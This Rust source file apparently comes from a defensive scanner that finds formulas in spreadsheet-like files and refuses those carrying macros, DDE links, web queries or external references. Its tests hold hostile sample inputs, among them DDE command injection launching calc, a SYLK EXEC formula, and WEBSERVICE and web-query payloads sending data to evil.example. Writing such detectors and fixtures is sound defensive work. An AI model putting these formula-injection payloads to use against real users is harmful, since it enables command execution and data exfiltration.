//! A table in any format that spreadsheet programs open: by its content, and by its name where the program goes by that.

use std::io::{Read, Seek};

use html5gum::{Token, Tokenizer};
use quick_xml::Reader;
use quick_xml::events::Event;

use super::csv_formula::{is_formula, validate_csv};
use super::refusal::{Limits, WorkbookRefusal};
use super::{refused_formula, validate_xlsx};
use crate::doctype::names_nothing_elsewhere;

/// Bytes of a table of text that are looked at.
const TEXT_BYTES: u64 = 64 << 20;
const HEAD: u64 = 4096;
/// Endings by which a program takes a file for a workbook of Office.
const WORKBOOKS: &[&str] = &["xlsx", "xlsm", "xltx", "xltm", "xlsb", "xlam", "xlw"];
/// Endings by which a program takes a text for a table.
const TABLES: &[&str] =
    &["csv", "tsv", "tab", "psv", "ssv", "slk", "sylk", "dif", "xls", "xlt", "ods", "prn"];
/// Endings of files that only say where the data come from.
const QUERIES: &[&str] = &["iqy", "oqy", "dqy", "rqy", "odc", "udl", "dsn"];
/// Elements of a page that stand in a text.
const DRESSING: &[&[u8]] = &[
    b"a", b"abbr", b"b", b"big", b"code", b"em", b"font", b"i", b"ins", b"kbd", b"mark", b"s", b"small",
    b"span", b"strong", b"sub", b"sup", b"tt", b"u", b"wbr",
];
/// Elements of the XML of 2003 that fetch.
const FETCHING: &[&str] = &[
    "querytable",
    "querysource",
    "sourceurl",
    "externalbook",
    "supbook",
    "pivotcache",
    "consolidationreference",
];

/// What a table holds.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Sheet {
    /// Why it must not be written: a reason code.
    pub refusal: Option<&'static str>,
    /// Cells that a program takes for formulas, of formats in which a text is one by how it begins.
    pub formula_cells: Option<usize>,
}

impl Sheet {
    fn refused(code: &'static str) -> Self {
        Self { refusal: Some(code), formula_cells: None }
    }
}

/// Whether a file with this beginning may be a table.
#[must_use]
pub fn may_be_table(name: &str, head: &[u8]) -> bool {
    let ending = name.rsplit_once('.').map_or(String::new(), |(_, ending)| ending.to_lowercase());
    let text = crate::plain::text(head);
    let start = text.trim_start();
    head.starts_with(b"PK")
        || [WORKBOOKS, TABLES, QUERIES].iter().any(|of| of.contains(&ending.as_str()))
        || start.starts_with('<')
        || start.starts_with("WEB")
        || start.get(..4).is_some_and(|s| s.eq_ignore_ascii_case("sep="))
}

/// What the file is as a table; nothing of what is none.
pub fn look(name: &str, reader: &mut (impl Read + Seek)) -> Sheet {
    let ending = name.rsplit_once('.').map_or(String::new(), |(_, ending)| ending.to_lowercase());
    let is_one = |of: &[&str]| of.contains(&ending.as_str());
    let mut head = Vec::new();
    if reader.rewind().and_then(|()| reader.by_ref().take(HEAD).read_to_end(&mut head)).is_err() {
        return Sheet::refused("unreadable_csv");
    }
    if head.starts_with(b"PK") {
        if let Some(sheet) = of_archive(reader, is_one(WORKBOOKS)) {
            return sheet;
        }
    } else if is_one(WORKBOOKS) {
        return of_workbook(reader);
    }
    let start = crate::plain::text(&head);
    let start = start.trim_start();
    let lines: Vec<&str> = start.lines().take(3).map(str::trim).collect();
    let is_query =
        lines.first() == Some(&"WEB") && lines.get(1).is_some_and(|line| line.parse::<u32>().is_ok());
    if is_query || is_one(QUERIES) {
        return Sheet::refused("data_connection");
    }
    let is_xml =
        start.contains("urn:schemas-microsoft-com:office:spreadsheet") || start.contains("Excel.Sheet");
    let is_flat = start.contains("<office:document") || start.contains("opendocument:xmlns:office");
    if start.starts_with('<') && (is_xml || is_flat) {
        return whole(reader).map_or(Sheet::refused("workbook_too_large"), |text| of_xml(&text));
    }
    let says_separator = start.get(..4).is_some_and(|s| s.eq_ignore_ascii_case("sep="));
    let is_table = is_one(TABLES) || says_separator && is_one(&["txt", "asc", "dat", "text"]);
    if !is_table {
        return Sheet::default();
    }
    if start.starts_with('<') {
        return whole(reader).map_or(Sheet::refused("workbook_too_large"), |text| page(&text));
    }
    let is_sylk = start.starts_with("ID;") || start == "ID";
    let is_dif = lines.first() == Some(&"TABLE") && lines.get(1).is_some_and(|line| line.starts_with("0,"));
    if is_sylk || is_dif {
        let of = if is_sylk { sylk } else { dif };
        return whole(reader).map_or(Sheet::refused("workbook_too_large"), |text| of(&text));
    }
    if reader.rewind().is_err() {
        return Sheet::refused("unreadable_csv");
    }
    match validate_csv(reader) {
        Ok(cells) => Sheet { refusal: None, formula_cells: Some(cells.len()) },
        Err(_) => Sheet::refused("unreadable_csv"),
    }
}

fn whole(reader: &mut (impl Read + Seek)) -> Option<String> {
    let mut bytes = Vec::new();
    reader.rewind().ok()?;
    reader.take(TEXT_BYTES + 1).read_to_end(&mut bytes).ok()?;
    (bytes.len() as u64 <= TEXT_BYTES).then(|| crate::plain::text(&bytes).into_owned())
}

fn of_workbook(reader: &mut (impl Read + Seek)) -> Sheet {
    let checked = reader
        .rewind()
        .map_err(|_| WorkbookRefusal::NotAWorkbook)
        .and_then(|()| validate_xlsx(reader, &Limits::default()));
    checked.map_or_else(|refusal| Sheet::refused(refusal.code()), |_| Sheet::default())
}

/// Which archive it is says its list of parts, wherever each of them stands in the file.
fn of_archive(reader: &mut (impl Read + Seek), named: bool) -> Option<Sheet> {
    let names: Vec<String> = match zip::ZipArchive::new(&mut *reader) {
        Ok(archive) => archive.file_names().map(str::to_lowercase).collect(),
        Err(_) => Vec::new(),
    };
    let has = |part: &str| names.iter().any(|name| name.starts_with(part));
    if named || has("xl/") {
        return Some(of_workbook(reader));
    }
    let runs = |name: &String| name.contains("vbaproject") || name.contains("macrosheets/");
    if has("[content_types].xml") {
        return Some(if names.iter().any(runs) { Sheet::refused("macro") } else { Sheet::default() });
    }
    if !has("content.xml") {
        return None;
    }
    let mut archive = zip::ZipArchive::new(reader).ok()?;
    let mut text = String::new();
    let part = archive.by_name("content.xml").ok()?;
    match part.take(TEXT_BYTES + 1).read_to_string(&mut text) {
        Ok(size) if size as u64 <= TEXT_BYTES => Some(of_xml(&text)),
        Ok(_) => Some(Sheet::refused("workbook_too_large")),
        Err(_) => Some(Sheet::refused("unreadable_part")),
    }
}

/// The XML of 2003 and OpenDocument: formulas stand in attributes.
fn of_xml(text: &str) -> Sheet {
    let mut reader = Reader::from_str(text.trim_start_matches('\u{feff}'));
    reader.config_mut().check_end_names = false;
    reader.config_mut().allow_unmatched_ends = true;
    loop {
        match reader.read_event() {
            Ok(Event::Start(element) | Event::Empty(element)) => {
                let local = String::from_utf8_lossy(element.local_name().as_ref()).to_lowercase();
                if FETCHING.contains(&local.as_str()) {
                    return Sheet::refused("data_connection");
                }
                if local == "dde-source" || local == "dde-link" {
                    return Sheet::refused("dde");
                }
                let is_source = matches!(
                    local.as_str(),
                    "table-source" | "cell-range-source" | "database-source-query" | "database-source-table"
                );
                for attribute in element.attributes().with_checks(false).flatten() {
                    let Ok(value) = attribute.unescape_value() else { return Sheet::refused("xml_entity") };
                    let key = String::from_utf8_lossy(attribute.key.local_name().as_ref()).to_lowercase();
                    if is_source && key == "href" {
                        return Sheet::refused("external_reference");
                    }
                    if matches!(
                        key.as_str(),
                        "formula" | "condition" | "expression" | "arrayformula" | "refersto"
                    ) && let Some(code) = refusal(&value)
                    {
                        return Sheet::refused(code);
                    }
                }
            }
            Ok(Event::DocType(declaration)) if names_nothing_elsewhere(&declaration) => {}
            Ok(Event::DocType(_)) => return Sheet::refused("xml_document_type"),
            Ok(Event::Eof) => return Sheet::default(),
            Ok(_) => {}
            Err(_) => return Sheet::refused("malformed_xml"),
        }
    }
}

/// Whether a formula of OpenDocument or of Office leaves its workbook.
#[must_use]
pub fn reaches_out(formula: &str) -> bool {
    refusal(formula).is_some()
}

fn refusal(formula: &str) -> Option<&'static str> {
    let is_open =
        formula.split_once(":=").is_some_and(|(prefix, _)| prefix.chars().all(|c| c.is_ascii_alphanumeric()));
    let body = if is_open {
        formula.split_once(":=").map_or("", |(_, body)| body)
    } else {
        formula.trim_start_matches('=')
    };
    // `[.A1]` is a cell of the same document there; one of another has its address before a `#`.
    let mut plain = String::with_capacity(body.len());
    let mut rest = body;
    while let Some(at) = rest.find('[').filter(|_| is_open) {
        plain.push_str(rest.get(..at).unwrap_or_default());
        let inner = rest.get(at + 1..).unwrap_or_default();
        let end = inner.find(']').unwrap_or(inner.len());
        let reference = inner.get(..end).unwrap_or_default();
        if reference.contains('#') && reference.contains([':', '/', '\\']) || reference.contains("'#") {
            return Some("external_reference");
        }
        plain.push_str("A1");
        rest = inner.get((end + 1).min(inner.len())..).unwrap_or_default();
    }
    plain.push_str(rest);
    refused_formula(&plain).map(|(code, _)| code)
}

/// SYLK: a field that begins with E is a formula, in a cell or behind a name.
fn sylk(text: &str) -> Sheet {
    let is_formula = |line: &&str| {
        let mut fields = line.split(';');
        let record = fields.next().unwrap_or_default().trim();
        matches!(record, "C" | "F" | "NN" | "NE" | "NU")
            && fields.any(|field| field.starts_with('E') || record == "NE" || record == "NU")
    };
    Sheet { refusal: None, formula_cells: Some(text.lines().filter(is_formula).count()) }
}

/// A page under the name of a workbook: the text of a cell is a formula by how it begins.
fn page(text: &str) -> Sheet {
    let mut cells = 0;
    let mut cell = String::new();
    let mut end = |cell: &mut String| {
        cells += usize::from(is_formula(cell.trim()));
        cell.clear();
    };
    for Ok(token) in Tokenizer::new(text) {
        let name = match &token {
            Token::String(text) => {
                cell.push_str(&String::from_utf8_lossy(text));
                continue;
            }
            Token::StartTag(tag) => &tag.name,
            Token::EndTag(tag) => &tag.name,
            _ => continue,
        };
        // What only dresses a text does not end it.
        if !DRESSING.contains(&name.as_slice()) {
            end(&mut cell);
        }
    }
    end(&mut cell);
    Sheet { refusal: None, formula_cells: Some(cells) }
}

/// DIF: texts stand in quotes on lines of their own.
fn dif(text: &str) -> Sheet {
    let cells = text.lines().map(|line| line.trim().trim_matches('"')).filter(|cell| is_formula(cell));
    Sheet { refusal: None, formula_cells: Some(cells.count()) }
}

#[cfg(test)]
mod tests {
    use std::io::Cursor;

    use super::*;
    use crate::test_archive::archive;

    fn of(name: &str, bytes: &[u8]) -> Sheet {
        look(name, &mut Cursor::new(bytes))
    }

    #[test]
    fn formulas_are_found_in_every_format_of_text() {
        let wide: Vec<u8> = "a,=cmd|'/c calc'!A0\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
        let marked = [&[0xff, 0xfe][..], &wide].concat();
        for (name, bytes) in [
            ("a.csv", &b"x,=1+1\n"[..]),
            ("a.csv", b"sep=^\nx^=1+1\n"),
            ("a.xls", b"<html><table><tr><td>1</td><td>=A1+41</td></tr></table></html>"),
            ("a.xls", b"<table><td>&#61;WEBSERVICE(\"http://h/?\"&amp;A1)</td></table>"),
            ("a.ods", b"<table><td><b>=</b>A1+41</td></table>"),
            ("a.txt", b"SEP=!\nx!=1+1\n"),
            ("a.csv", b"a|b\nx|=1+1\n"),
            ("a.tab", b"a\t=1+1\n"),
            ("a.csv", &wide),
            ("a.csv", &marked),
            ("a.slk", b"ID;PWXL;N;E\nC;Y1;X1;K0;EEXEC(\"calc\")\nE\n"),
            ("a.csv", b"ID;PWXL;N;E\nC;Y1;X1;K0;EEXEC(\"calc\")\nE\n"),
            ("a.dif", b"TABLE\n0,1\n\"x\"\nDATA\n0,0\n\"\"\n-1,0\nBOT\n1,0\n\"=1+1\"\n-1,0\nEOD\n"),
            ("a.xls", b"x\t=1+1\n"),
        ] {
            assert!(of(name, bytes).formula_cells.is_some_and(|n| n > 0), "{name}: {:?}", of(name, bytes));
        }
    }

    #[test]
    fn workbooks_that_reach_out_are_refused_in_every_format() {
        let sheet = |formula: &str| {
            format!(
                "<office:document-content><table:table-cell table:formula='{formula}'/></office:document-content>"
            )
        };
        let ods = |formula: &str| {
            archive(&[
                ("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
                ("content.xml", &sheet(formula)),
            ])
        };
        let xml = |formula: &str| {
            format!(
                "<?xml version='1.0'?><?mso-application progid='Excel.Sheet'?><Workbook xmlns='urn:schemas-microsoft-com:office:spreadsheet'><Cell ss:Formula='{formula}'/></Workbook>"
            )
        };
        let template = archive(&[
            ("xl/vbaProject.bin", "x"),
            ("xl/workbook.xml", &"<a/>".repeat(3000)),
            ("[Content_Types].xml", "<Types/>"),
        ]);
        for (name, bytes) in [
            ("a.ods", ods("of:=WEBSERVICE([.A1])")),
            ("a.ods", ods("of:=[&apos;https://evil.example/a.ods&apos;#$Sheet1.A1]")),
            (
                "a.fods",
                sheet("of:=DDE(&quot;a&quot;;&quot;b&quot;;&quot;c&quot;)")
                    .replace("-content", "")
                    .into_bytes(),
            ),
            ("a.xml", xml("=WEBSERVICE(&quot;https://evil.example&quot;)").into_bytes()),
            ("a.xls", xml("=cmd|&apos;/c calc&apos;!A0").into_bytes()),
            ("a.iqy", b"WEB\r\n1\r\nhttps://evil.example/q\r\n".to_vec()),
            ("a.txt", b"WEB\n1\nhttps://evil.example/q\n".to_vec()),
            ("a.xltm", template.clone()),
            ("a.xlam", template.clone()),
            ("a.bin", template),
            ("a.docm", archive(&[("[Content_Types].xml", "<Types/>"), ("word/vbaProject.bin", "x")])),
        ] {
            assert!(of(name, &bytes).refusal.is_some(), "{name}");
        }
        assert_eq!(of("a.ods", &ods("of:=SUM([.B2:.B3])*[$Other.A1]")), Sheet::default());
        assert_eq!(of("a.xml", xml("=SUM(R[-2]C:R[-1]C)").as_bytes()), Sheet::default());
    }

    #[test]
    fn what_is_no_table_is_left_alone() {
        let word = archive(&[("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w/>")]);
        assert_eq!(of("a.docx", &word), Sheet::default());
        assert_eq!(of("a.odt", &archive(&[("content.xml", "<office:document-content/>")])), Sheet::default());
        for (name, bytes) in [
            ("a.md", &b"- =x\n| = | b |\n"[..]),
            ("a.txt", b"=====\nTitle\n"),
            ("a.xml", b"<a formula='=WEBSERVICE(1)'/>"),
            ("a.py", b"x = 1"),
            ("a.zip", b"PK\x03\x04"),
        ] {
            assert_eq!(of(name, bytes), Sheet::default(), "{name}");
        }
        for plain in [&b"region,amount\nnorth,-10\n"[..], b"a|b\nx|1\n", b"a;b\n1;2\n", b""] {
            assert_eq!(of("a.csv", plain).formula_cells, Some(0));
        }
    }
}
